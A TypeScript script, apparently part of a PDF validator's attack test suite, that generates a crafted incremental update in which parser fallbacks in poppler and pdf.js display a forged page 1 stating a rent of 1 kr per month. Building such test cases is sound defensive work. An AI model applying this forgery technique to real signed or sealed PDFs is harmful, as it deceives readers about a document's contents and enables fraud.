// a21 (G1 with a table-based update): the same object stream at generation 1, listed by a cross-reference table
// whose /XRefStm stream lists page 1 in it; page 1's number re-defined, unlisted, after. The newest section being a
// table, poppler, failing to fetch the object stream at generation 0, rebuilds the table by scanning (XRef::fetch's
// fallback) as pdf.js does (checkFirstPage): both show the last `4 0 obj`.
//   npx tsx scripts/attack-s16/gen-hybrid.ts <honest|gen>   REAL=0 for samples/valid (default: the real archive)
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "./lib.js";

const mode = process.argv[2] ?? "gen";
if (!["honest", "gen"].includes(mode)) throw new Error("usage: <honest|gen>");
const gen = mode === "gen" ? 1 : 0;
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const alloc = new NumberAllocator(doc);
const [A, B, X] = [alloc.take(), alloc.take(), alloc.take()];
const header = `${p.num} 0\n`;
const stm = latin(`${header}<< ${[...p.kept, ...p.sealedTail].join(" ")} >>\n`);
const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const forged =
  `${p.num} 0 obj\n<< ${p.kept.join(" ")} /Contents ${B} 0 R ` +
  `/Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>\nendobj\n`;
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const offA = at;
push([
  ...latin(`${A} ${gen} obj\n<< /Type /ObjStm /N 1 /First ${header.length} /Length ${stm.length} >>\nstream\n`),
  ...stm,
  ...latin("\nendstream\nendobj\n"),
]);
const offB = at;
push([...latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n`), ...content, ...latin("\nendstream\nendobj\n")]);
push(latin(forged)); // unlisted
const offX = at;
const rows = [2, (A >>> 24) & 0xff, (A >>> 16) & 0xff, (A >>> 8) & 0xff, A & 0xff, 0, 0];
push([
  ...latin(`${X} 0 obj\n<< /Type /XRef /Size ${X + 1} /W [1 4 2] /Index [${p.num} 1] /Length ${rows.length} >>\nstream\n`),
  ...rows,
  ...latin("\nendstream\nendobj\n"),
]);
const offT = at;
const e = (off: number, g: number) => `${String(off).padStart(10, "0")} ${String(g).padStart(5, "0")} n\r\n`;
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
push(
  latin(
    `xref\n${A} 3\n${e(offA, gen)}${e(offB, 0)}${e(offX, 0)}trailer\n<< /Size ${X + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} /XRefStm ${offX} >>\nstartxref\n${offT}\n%%EOF\n`,
  ),
);
judge(`gen-hybrid ${mode}`, save(work(`s16-gen-hybrid-${mode}`), "archive.pdf", Uint8Array.from(parts.flat())));
